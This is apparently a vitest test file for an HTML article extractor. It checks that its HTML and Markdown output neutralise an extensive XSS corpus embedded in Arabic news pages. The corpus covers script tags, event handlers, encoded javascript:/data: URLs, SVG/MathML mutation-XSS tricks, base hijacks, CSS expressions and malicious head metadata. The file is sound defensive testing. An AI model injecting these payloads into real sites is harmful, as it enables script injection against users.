/**
 * toHTML is safe to render: every payload of this XSS corpus, placed in a page, comes
 * out neutralised (escaped text or dropped URL) — never as live markup.
 */
import { describe, expect, it } from 'vitest';
import { parse } from 'parse5';
import { extract, toHTML, toMarkdown } from '../../src/index.js';
import { FIXTURE_NOW } from '../fixtures.js';
import { liveParts } from '../robustness/check.js';

const PARA = 'وقال المتحدث إن الحكومة ستواصل العمل على تحسين الخدمات في جميع المحافظات خلال الفترة المقبلة، مؤكدا أهمية التعاون.';

const PAYLOADS: Record<string, string> = {
  'script tag in text': `<p>${PARA}<script>alert(1)</script></p>`,
  'event handler': `<p onclick="alert(1)">${PARA}</p><img src="x.jpg" onerror="alert(1)" width="600">`,
  'javascript: link and image': `<p>${PARA} <a href="javascript:alert(1)">رابط</a></p><img src="javascript:alert(1)" width="600"><img src=" jav&#x09;ascript:alert(1)" width="600">`,
  'data: URL image': `<p>${PARA}</p><img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="600">`,
  'svg and math tricks': `<p>${PARA}</p><svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  'iframe srcdoc': `<p>${PARA}</p><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  'base hijack': `<base href="javascript:alert(1)//"><p>${PARA}</p><img src="/a.jpg" width="600">`,
  'css expression': `<p style="width:expression(alert(1))">${PARA}</p><div style="background:url(javascript:alert(1))">${PARA} ثانية</div>`,
  'escaped markup in text': `<p>${PARA} &lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;</p>`,
  'payload in headline and caption': `<h1>"><script>alert(1)</script></h1><p>${PARA}</p><figure><img src="/b.jpg" width="600"><figcaption><img src=x onerror=alert(1)>صورة</figcaption></figure>`,
  'object and embed': `<p>${PARA}</p><object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  'meta refresh and form': `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>${PARA}</p><form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>`,
};

const ALLOWED_TAGS = new Set(['html', 'head', 'body', 'article', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'blockquote', 'ul', 'ol', 'li', 'figure', 'img', 'figcaption', 'a', 'table', 'tbody', 'tr', 'td']);
const ALLOWED_ATTRS = new Set(['lang', 'dir', 'class', 'src', 'alt', 'loading', 'href', 'rel']);

/** Parse the output as a browser would and list everything live in it. */
function allowListedParts(html: string): string[] {
  const problems: string[] = [];
  const walk = (node: any): void => {
    for (const child of node.childNodes ?? []) {
      if (child.tagName) {
        if (!ALLOWED_TAGS.has(child.tagName)) problems.push(`<${child.tagName}>`);
        for (const a of child.attrs) {
          if (!ALLOWED_ATTRS.has(a.name)) problems.push(`${child.tagName}[${a.name}]`);
          if ((a.name === 'href' || a.name === 'src') && !/^https?:\/\//.test(a.value)) problems.push(`${a.name}=${a.value}`);
        }
        walk(child);
      }
    }
  };
  walk(parse(html));
  return problems;
}

/**
 * The fuller corpus: each payload sits in an article page (in the body, and where noted in
 * the head), goes through extract → toHTML / toMarkdown, and the output is parsed with
 * parse5 and walked: nothing live may survive (see test/robustness/check.ts liveParts).
 */
const JS_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#x09;script:alert(1)',
  'java&#x0A;script:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript&colon;alert(1)',
  'jav&Tab;ascript:alert(1)',
  '\u0001javascript:alert(1)',
  '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
  'javascript://%0Aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:image/svg+xml,<svg onload=alert(1)>',
  'data:image/png;base64,iVBORw0KGgo=',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'file:///etc/passwd',
  'blob:https://example.com/uuid',
  'filesystem:https://example.com/temporary/x',
  'jar:https://example.com/x.jar!/',
  'about:blank',
  'chrome://settings',
  'intent://x#Intent;scheme=javascript;end',
  '//javascript:alert(1)',
  '\\\\evil.example\\x.jpg',
];

const XSS_CORPUS: Record<string, string> = {
  ...Object.fromEntries(
    JS_URLS.map((u, i) => [
      `URL obfuscation #${i}: ${u.slice(0, 40)}`,
      `<p>${PARA} <a href="${u}">رابط</a></p><img src="${u}" width="600"><img data-src="${u}" width="600"><img srcset="${u} 800w" width="600"><figure><img src="${u}" width="600" alt="${u}"><figcaption>${u}</figcaption></figure><iframe src="${u}"></iframe><video src="${u}"></video><blockquote class="twitter-tweet"><a href="${u}">x</a></blockquote><div class="fb-post" data-href="${u}"></div><amp-youtube data-videoid="x&quot;onload=&quot;alert(1)"></amp-youtube>`,
    ]),
  ),
  'event handlers on everything': `<p onmouseover="alert(1)" ONCLICK=alert(1) onfocus=alert(1) autofocus tabindex=1>${PARA}</p><img src="/a.jpg" width="600" onload="alert(1)" onerror=alert(1)><body onload=alert(1)><svg onload=alert(1)><details open ontoggle=alert(1)><video><source onerror=alert(1)></video><marquee onstart=alert(1)>x</marquee>`,
  'handlers with odd separators': `<p>${PARA}</p><img/src="/a.jpg"/onerror=alert(1) width="600"><img src="/b.jpg"\nonerror=alert(1) width="600"><img src="/c.jpg" width="600"/onerror="alert(1)"><img src=\`x\` onerror=alert(1)>`,
  'attribute breakout in alt and caption': `<p>${PARA}</p><figure><img src="/a.jpg" width="600" alt='"><script>alert(1)</script><img src=x onerror=alert(1)>'><figcaption>"><svg/onload=alert(1)> \` ' " &lt;img src=x onerror=alert(1)&gt;</figcaption></figure>`,
  'svg tricks': `<p>${PARA}</p><svg><script>alert(1)</script><script xlink:href="data:,alert(1)"></script><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/><foreignObject><iframe src="javascript:alert(1)"></iframe><p onclick="alert(1)">${PARA}</p></foreignObject><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/><image href="javascript:alert(1)"/></svg>`,
  'mathml tricks': `<p>${PARA}</p><math><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline" xlink:href="javascript:alert(1)">y</maction><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  'srcdoc and frames': `<p>${PARA}</p><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><iframe src="https://www.youtube.com/embed/x" srcdoc="<img src=x onerror=alert(1)>"></iframe><frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset><embed src="data:text/html,<script>alert(1)</script>"><object data="data:text/html,<script>alert(1)</script>" type="text/html"></object><portal src="javascript:alert(1)"></portal>`,
  'base hijack with relative images': `<base href="javascript:alert(1)//"><base href="data:text/html,"><p>${PARA}</p><img src="x.jpg" width="600"><a href="y">z</a>`,
  'base in body, relative image': `<p>${PARA}</p><base href="//evil.example/"><img src="/a.jpg" width="600">`,
  'css expressions and url(javascript:)': `<style>body{background:url("javascript:alert(1)")} p{behavior:url(x.htc)} @import 'javascript:alert(1)';</style><p style="width:expression(alert(1));background-image:url(javascript:alert(1));-moz-binding:url(//evil/x.xml#x)">${PARA}</p><div style="x:\\65xpression(alert(1))">${PARA} ثانية</div><link rel="stylesheet" href="javascript:alert(1)">`,
  'meta refresh and set-cookie': `<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0; URL='data:text/html,<script>alert(1)</script>'"><meta http-equiv="Set-Cookie" content="a=b"><p>${PARA}</p>`,
  'formaction and forms': `<p>${PARA}</p><form><button formaction="javascript:alert(1)">x</button><input type="image" src="javascript:alert(1)" formaction="javascript:alert(1)"><input type="submit" formaction="javascript:alert(1)"></form><isindex action="javascript:alert(1)" type="image">`,
  'xlink:href outside svg': `<p>${PARA}</p><a xlink:href="javascript:alert(1)">x</a><img xlink:href="javascript:alert(1)" src="/a.jpg" width="600">`,
  'template and noscript tricks': `<p>${PARA}</p><template><img src=x onerror=alert(1)><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">${PARA}</p></noscript><noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>`,
  'mXSS: nesting that re-parses differently': `<p>${PARA}</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg><math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></mtext></svg></mglyph></h1></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  'mXSS: comments, CDATA and raw text': `<p>${PARA}</p><!--><img src=x onerror=alert(1)>--><![CDATA[><img src=x onerror=alert(1)>]]><textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp><select><option><img src=x onerror=alert(1)></option></select><p>&lt;!--&gt;&lt;img src=x onerror=alert(1)&gt;</p>`,
  'mXSS: backticks, entities and half tags in text': `<p>${PARA} &lt;img src=\`x\` onerror=alert(1)&gt; &amp;lt;script&amp;gt; &lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt; <scr<script>ipt>alert(1)</scr</script>ipt></p><p>${PARA} &#60;svg onload=alert(1)&#62;</p>`,
  'plaintext swallowing the rest': `<p>${PARA}</p><plaintext><script>alert(1)</script><img src=x onerror=alert(1)>`,
  'script-bearing JSON-LD and meta fields': `<p>${PARA}</p>`,
  'bidi and invisible characters around a scheme': `<p>${PARA}</p><img src="\u202Ejavascript:alert(1)" width="600"><img src="java\u200Bscript:alert(1)" width="600"><a href="\uFEFFjavascript:alert(1)">x</a>`,
};

/** Head payloads: where the headline, lead image, authors, tags and dates come from. */
const HEAD = `<title>"><script>alert(1)</script> | موقع</title><meta property="og:title" content="&lt;img src=x onerror=alert(1)&gt;"><meta property="og:image" content="javascript:alert(1)"><meta name="twitter:image" content="data:image/svg+xml,<svg onload=alert(1)>"><link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="javascript:alert(1)"><meta name="author" content="<script>alert(1)</script>"><meta name="keywords" content="<img src=x onerror=alert(1)>, وسم"><script type="application/ld+json">{"@type":"NewsArticle","headline":"<script>alert(1)</script>","image":{"url":"javascript:alert(1)"},"author":{"name":"<img src=x onerror=alert(1)>"},"publisher":{"name":"<svg onload=alert(1)>"},"datePublished":"<script>"}</script>`;

describe('toHTML neutralises the fuller XSS corpus', () => {
  it.each(Object.entries(XSS_CORPUS))('%s', (_name, body) => {
    for (const html of [`<html><head>${HEAD}</head><body><article>${body}</article></body></html>`, `<html><body><h1>عنوان</h1>${body}<p>${PARA}</p></body></html>`]) {
      for (const options of [{ url: 'https://example.com/a/b', now: FIXTURE_NOW }, { now: FIXTURE_NOW }, { url: 'https://www.youm7.com/story/2024/1/1/x/1', now: FIXTURE_NOW }]) {
        const article = extract(html, options);
        const out = toHTML(article);
        expect(liveParts(out), out).toEqual([]);
        expect(out).not.toMatch(/<(script|style|iframe|object|embed|svg|math|base|meta|link|form|template)\b/i);
        // Every href/src the browser would see is an absolute http(s) URL.
        for (const m of out.matchAll(/\s(href|src)="([^"]*)"/g)) expect(m[2]).toMatch(/^https?:\/\//);
        expect(out).toMatch(/^<article lang="[^"]*" dir="(rtl|ltr)">[\s\S]*<\/article>$/);
        const md = toMarkdown(article);
        // Markdown renderers pass raw HTML through: no unescaped tag may open, no link may leave http(s).
        expect(md).not.toMatch(/(?<!\\)<(?!https?:\/\/)[a-z!/?]/i);
        for (const m of md.matchAll(/\]\(<([^>]*)>\)/g)) expect(m[1]).toMatch(/^https?:\/\//);
        expect(md).not.toMatch(/\]\((?!<https?:\/\/)/);
      }
    }
  });

  it('drops javascript:/data: lead images and keeps http(s) ones', () => {
    const a = extract(`<html><head><meta property="og:image" content="javascript:alert(1)"></head><body><article><p>${PARA}</p></article></body></html>`, { url: 'https://example.com/x', now: FIXTURE_NOW });
    expect(toHTML(a)).not.toContain('javascript');
    const b = extract(`<html><head><meta property="og:image" content="/lead.jpg"></head><body><article><p>${PARA}</p></article></body></html>`, { url: 'https://example.com/x', now: FIXTURE_NOW });
    expect(toHTML(b)).toContain('src="https://example.com/lead.jpg"');
  });
});

describe('toHTML neutralises the XSS corpus', () => {
  it.each(Object.entries(PAYLOADS))('%s', (_name, body) => {
    const article = extract(`<html><body><article>${body}</article></body></html>`, { url: 'https://example.com/a/b', now: FIXTURE_NOW });
    const html = toHTML(article);
    expect(allowListedParts(html), html).toEqual([]);
    expect(liveParts(html), html).toEqual([]);
    expect(html).not.toMatch(/<script|javascript:/i);
    expect(html).toMatch(/^<article lang="[^"]*" dir="(rtl|ltr)">/);
    expect(toMarkdown(article)).not.toMatch(/javascript:|(?<!\\)<script/i);
  });

  it('escapes text and makes image URLs absolute', () => {
    const article = extract(`<article><p>${PARA} &lt;b&gt;</p><figure><img src="/img/a.jpg" width="600"><figcaption>تعليق الصورة</figcaption></figure></article>`, { url: 'https://example.com/news/1', now: FIXTURE_NOW });
    const html = toHTML(article);
    expect(html).toContain('&lt;b&gt;');
    expect(html).toContain('src="https://example.com/img/a.jpg"');
  });
});
